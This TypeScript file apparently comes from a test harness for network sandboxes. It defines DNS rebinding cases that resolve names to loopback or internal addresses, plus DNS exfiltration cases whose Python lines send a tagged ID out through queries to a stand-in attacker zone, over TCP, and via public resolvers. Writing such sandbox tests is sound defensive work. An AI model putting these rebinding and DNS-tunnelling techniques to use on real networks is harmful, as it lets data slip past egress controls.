/** Names whose name server belongs to the attacker, and name servers used to carry data out. */
import { reached, type Attack, type AttackTable, type Success } from "../attack.ts";

const rebound = { row: 7, succeeded: reached("evil"), rule: "internal-address" } as const;
const visit = String.raw`talk(tcp(NAME, PORT), head("GET", "/", NAME))`;

/** Somebody on the host's side was asked for a name of the attack's. */
const leaked: Success = ({ id, queries }) => queries.find((query) => query.includes(`leak-${id}`));
const exfiltration = (name: string, python: string): Attack => ({
  row: 11,
  name,
  python: `${python}\ntry: tcp("leak-" + ID + ".zone.example", 80).close()\nexcept OSError as error: say(error)`,
  succeeded: leaked,
  silent: true,
});

const answers: Record<string, readonly string[]> = {
  "a name that leads to loopback": ["127.0.0.1"],
  "a name that leads to an internal address beside a public one": ["127.99.0.1,127.0.0.1"],
  "a name that leads to loopback over IPv6": ["::ffff:127.0.0.1"],
  "a name that leads to the unspecified address": ["0.0.0.0"],
  "a name that changes its mind between two connections": ["127.99.0.1", "127.0.0.1"],
};

export const rebinding: AttackTable = {
  title: "The attacker's name server",
  prefix: "d",
  openRanges: ["127.0.0.0/8", "0.0.0.0/8", "::ffff:0:0/96"],
  zone: (id, index) => {
    const list = Object.values(answers)[index];
    return list === undefined ? { [`leak-${id}.zone.example`]: ["127.99.0.1"] } : { [`${id}.zone.example`]: list };
  },
  attacks: [
    ...Object.keys(answers).map((name): Attack => ({
      ...rebound,
      name,
      python: name.includes("mind")
        ? `
for turn in range(2):
    try: ${visit}
    except OSError as error: say(error)
    time.sleep(5.5)`
        : visit,
      ...(name.includes("mind") && { limit: 90_000, silent: true }),
    })),
    exfiltration("data in a question for an address", `dns("leak-" + ID + ".zone.example")`),
    exfiltration("data in a question for text", `dns("leak-" + ID + ".zone.example", "TXT")`),
    exfiltration(
      "data in a question for a service",
      `dns("leak-" + ID + ".zone.example", "SVCB"); dns("leak-" + ID + ".zone.example", "HTTPS")`,
    ),
    exfiltration(
      "data in questions of rare types",
      `[dns("leak-" + ID + ".zone.example", t, limit=1) for t in ("MX", "NULL", "ANY", "SRV", "CNAME")]`,
    ),
    exfiltration(
      "data in front of a service of a name that is not allowed",
      `dns("_leak-" + ID + "._tcp.leak-" + ID + ".zone.example", "SRV")`,
    ),
    exfiltration(
      "data under a name that is allowed alone",
      `dns("leak-" + ID + "." + NAME, "TXT"); dns("leak-" + ID + "." + NAME, "MX")`,
    ),
    exfiltration("data in a question over TCP", `dns("leak-" + ID + ".zone.example", over="tcp", limit=2)`),
    exfiltration(
      "data in a question to a public name server",
      `dns("leak-" + ID + ".zone.example", server="8.8.8.8", limit=2)`,
    ),
    exfiltration(
      "data in a question to a public name server over TCP",
      `dns("leak-" + ID + ".zone.example", server="8.8.8.8", over="tcp", limit=2)`,
    ),
    exfiltration(
      "data in a question for the name of an address",
      `dns("leak-" + ID + ".1.0.99.127.in-addr.arpa", "PTR")`,
    ),
  ],
};
